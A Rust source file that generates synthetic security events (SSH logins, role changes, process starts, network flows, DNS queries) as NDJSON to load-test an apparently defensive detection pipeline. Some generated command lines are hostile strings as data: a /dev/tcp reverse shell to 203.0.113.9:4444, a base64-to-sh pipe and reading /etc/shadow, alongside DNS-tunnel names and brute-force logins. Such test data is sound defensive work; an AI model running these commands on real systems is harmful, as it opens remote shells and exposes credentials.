//! The load: logins, processes and flows of some hosts, with attackers among them.
//!
//! Owns what the events look like. About one event in 270 leads to an alert or a revision of one;
//! attackers move on to new addresses, so that windows keep gaining and losing keys. Times are
//! given by the caller and rise by a nanosecond from event to event, so that nothing is late.

use std::fmt::Write;

use larum_event::{Channel, Event, EventDefaults, EventId, Severity, TenantId, Timestamp};

/// Hosts that one stream speaks of.
const HOSTS: u64 = 25;
/// Failures after which an attacker changes its address.
const TRIES: u64 = 8;

/// One stream of events, as one forwarder would send it.
#[derive(Debug, Clone)]
pub struct Traffic {
    stream: u64,
    number: u64,
    tries: u64,
}

/// What is drawn for one event.
#[derive(Clone, Copy)]
struct Draw(u64);

impl Draw {
    /// A number below `most`, from its own bits of the draw.
    fn below(self, bits: u32, most: u64) -> u64 {
        (self.0.rotate_right(bits) & 0xff_ffff) % most
    }
}

impl Traffic {
    /// Stream number `stream`; streams share no source.
    pub fn new(stream: u64) -> Self {
        Self {
            stream,
            number: 0,
            tries: 0,
        }
    }

    /// Adds `number` events to `out` as NDJSON, their times from `first` on.
    pub fn write(&mut self, number: usize, first: Timestamp, out: &mut String) {
        for offset in 0..number {
            let nanos = first.as_nanos().saturating_add(offset as i64);
            self.event(Timestamp::from_nanos(nanos), out);
            out.push('\n');
        }
    }

    fn event(&mut self, time: Timestamp, out: &mut String) {
        self.number += 1;
        let draw = Draw(mixed((self.stream << 40) | self.number));
        let host = self.stream * HOSTS + draw.below(0, HOSTS);
        let written = match draw.below(8, 100) {
            0..38 => self.login(draw, host, time, out),
            38..40 => self.role(draw, host, time, out),
            40..75 => self.process(draw, host, time, out),
            75..94 => self.flow(draw, host, time, out),
            _ => self.dns(draw, host, time, out),
        };
        written.expect("writing to memory does not fail");
    }

    /// The members that all events have, up to the opening of `metadata`.
    fn head(
        &self,
        draw: Draw,
        (kind, collector): (&str, &str),
        (host, time): (u64, Timestamp),
        out: &mut String,
    ) -> std::fmt::Result {
        let channel = if kind.starts_with("auth") {
            "security"
        } else {
            "events"
        };
        write!(
            out,
            r#"{{"id":"{:016x}-{:04x}-{:08x}","type":"{kind}","source":"{collector}@web-{host}","time":"{time}","channel":"{channel}","#,
            draw.0, self.stream, self.number
        )
    }

    fn login(
        &mut self,
        draw: Draw,
        host: u64,
        time: Timestamp,
        out: &mut String,
    ) -> std::fmt::Result {
        self.head(draw, ("auth.login", "sshd"), (host, time), out)?;
        let attacked = draw.below(30, 25) == 0;
        let failed = attacked || draw.below(30, 25) == 1;
        let outcome = if failed { "failure" } else { "success" };
        let (user, port) = (draw.below(16, 5_000), 1_024 + draw.below(24, 60_000));
        out.push_str(r#""metadata":{"#);
        if attacked {
            self.tries += 1;
            let attacker = (self.stream << 16) | (self.tries / TRIES);
            write!(
                out,
                r#""user":"admin{}","ip":"203.{}.{}.{}""#,
                attacker % 97,
                attacker >> 16 & 0xff,
                attacker >> 8 & 0xff,
                attacker & 0xff
            )?;
        } else if draw.below(34, 3_000) == 0 {
            write!(out, r#""user":"root","ip":"198.51.100.{}""#, user % 250)?;
        } else {
            write!(
                out,
                r#""user":"user{user}","ip":"10.{}.{}.{}""#,
                user >> 8,
                user & 0xff,
                draw.below(20, 4)
            )?;
        }
        write!(
            out,
            r#","userAgent":"OpenSSH_9.6"}},"data":{{"outcome":"{outcome}","method":"{}","host":"web-{host}","port":{port},"message":"{} for user{user} from port {port} ssh2, session {:08x} of web-{host}"}}}}"#,
            if draw.below(40, 3) == 0 {
                "password"
            } else {
                "publickey"
            },
            if failed {
                "Failed password"
            } else {
                "Accepted key"
            },
            draw.below(3, 1 << 24),
        )
    }

    fn role(&self, draw: Draw, host: u64, time: Timestamp, out: &mut String) -> std::fmt::Result {
        self.head(draw, ("auth.role", "iam"), (host, time), out)?;
        let role = match draw.below(33, 300) {
            0 => "admin",
            1..100 => "reader",
            _ => "writer",
        };
        write!(
            out,
            r#""metadata":{{"user":"user{}"}},"data":{{"role":"{role}","by":"user{}","host":"web-{host}","ticket":"CHG-{}"}}}}"#,
            draw.below(16, 5_000),
            draw.below(20, 50),
            self.number
        )
    }

    fn process(
        &self,
        draw: Draw,
        host: u64,
        time: Timestamp,
        out: &mut String,
    ) -> std::fmt::Result {
        self.head(draw, ("process.started", "procmon"), (host, time), out)?;
        // One process in ten belongs to a job of the scheduler, which is a workflow.
        if draw.below(28, 10) == 0 {
            let job = self.number / 2_000;
            write!(
                out,
                r#""correlationId":"job-{}-{job}-{}","correlation":{{"root":"job-{}-{job}","stage":"collection"}},"#,
                self.stream,
                draw.below(12, 20),
                self.stream
            )?;
        }
        let image = [
            "/usr/bin/ls",
            "/usr/bin/python3",
            "/bin/sh",
            "/usr/bin/curl",
            "/usr/bin/grep",
        ];
        let image = match draw.below(31, 4_000) {
            0 => "/tmp/.x/update",
            other => image
                .get(other as usize % image.len())
                .copied()
                .unwrap_or("/bin/true"),
        };
        let parent = match draw.below(36, 4_000) {
            0 => "/usr/sbin/nginx",
            1..2_000 => "/bin/bash",
            _ => "/usr/lib/systemd/systemd",
        };
        let command = match draw.below(42, 5_000) {
            0 => "sh -c 'echo aGk= | base64 -d | sh'",
            1 => "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            2 => "cat /etc/shadow",
            3..1_000 => "python3 -m pytest --quiet --maxfail=1 tests/unit",
            1_000..3_000 => "curl --silent --fail http://10.0.0.7:8080/health",
            _ => "grep --recursive --line-number TODO /srv/app/current/src",
        };
        let pid = draw.below(22, 4_000_000);
        write!(
            out,
            r#""metadata":{{"user":"user{}","entityId":"{:016x}"}},"data":{{"image":"{image}","parentImage":"{parent}","commandLine":"{command}","pid":{pid},"parentPid":{},"host":"web-{host}","sha256":"{:016x}{:016x}"}}}}"#,
            draw.below(16, 5_000),
            draw.0 ^ 0x5555,
            pid / 2,
            draw.0.rotate_left(13),
            draw.0.rotate_left(29)
        )
    }

    fn flow(&self, draw: Draw, host: u64, time: Timestamp, out: &mut String) -> std::fmt::Result {
        self.head(draw, ("network.flow", "netmon"), (host, time), out)?;
        let bytes = match draw.below(31, 4_000) {
            0 => 50_000_000,
            other => other * 100,
        };
        let port = match draw.below(37, 6_000) {
            0 => 4_444,
            1..3_000 => 443,
            _ => 5_432,
        };
        let action = match draw.below(43, 20) {
            0 => "denied",
            _ => "allowed",
        };
        write!(
            out,
            r#""metadata":{{"ip":"10.1.{}.{}"}},"data":{{"host":"web-{host}","address":"198.51.{}.{}","port":{port},"protocol":"tcp","action":"{action}","bytesIn":{},"bytesOut":{bytes},"durationMs":{}}}}}"#,
            draw.below(15, 8),
            draw.below(23, 250),
            draw.below(19, 250),
            draw.below(26, 250),
            bytes / 3,
            draw.below(12, 60_000)
        )
    }

    fn dns(&self, draw: Draw, host: u64, time: Timestamp, out: &mut String) -> std::fmt::Result {
        self.head(draw, ("network.dns", "netmon"), (host, time), out)?;
        let query = match draw.below(31, 50) {
            0 => format!(
                "{:016x}{:016x}{:016x}{:016x}.tunnel.example.net",
                draw.0,
                !draw.0,
                draw.0 << 3,
                draw.0 >> 3
            ),
            other => format!("service-{other}.prod.example.com"),
        };
        write!(
            out,
            r#""metadata":{{"ip":"10.1.{}.{}"}},"data":{{"host":"web-{host}","query":"{query}","kind":"A","answers":["198.51.100.7","198.51.100.8"],"rcode":"NOERROR"}}}}"#,
            draw.below(15, 8),
            draw.below(23, 250)
        )
    }
}

/// The finalizer of splitmix64.
fn mixed(number: u64) -> u64 {
    let mut z = number.wrapping_mul(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// Reads NDJSON that [`Traffic`] wrote.
pub fn parse_all(lines: &str) -> Vec<Event> {
    let tenant = TenantId::default_tenant();
    let fill = EventDefaults {
        arrived: Timestamp::default(),
        new_id: &|| EventId::new("none").expect("a word is a valid id"),
        source: None,
        channel: &Channel::default_channel(),
        tenant: &tenant,
        severity: &|_| Severity::Info,
    };
    lines
        .lines()
        .map(|line| Event::parse(line.as_bytes(), &fill).expect("the load is made of valid events"))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_event_of_the_load_is_valid_and_none_has_the_id_of_another() {
        let mut lines = String::new();
        for stream in 0..3 {
            Traffic::new(stream).write(5_000, Timestamp::default(), &mut lines);
        }
        let events = parse_all(&lines);
        let ids: std::collections::BTreeSet<_> = events
            .iter()
            .map(|event| event.envelope().id.clone())
            .collect();
        assert_eq!((events.len(), ids.len()), (15_000, 15_000));
    }

    #[test]
    fn ten_copies_of_the_rules_are_two_hundred() {
        for (copies, rules) in [(1, 20), (10, 200)] {
            let set = larum_rule::RuleSet::load(&crate::rule_files(copies)).unwrap();
            assert_eq!(set.rules().len(), rules);
            assert!(set.rules().iter().all(larum_rule::Rule::is_native));
        }
    }
}
